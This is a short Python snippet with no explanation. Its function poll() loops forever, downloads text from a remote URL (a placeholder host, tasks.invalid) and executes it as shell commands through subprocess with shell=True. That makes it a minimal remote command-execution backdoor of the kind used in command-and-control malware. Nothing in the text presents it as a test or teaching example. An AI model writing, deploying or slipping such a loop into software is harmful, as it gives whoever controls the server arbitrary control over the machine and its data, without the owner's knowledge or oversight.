import subprocess
import requests

def poll():
    while True:
        command = requests.get("http://tasks.invalid/next").text
        subprocess.call(command, shell=True)
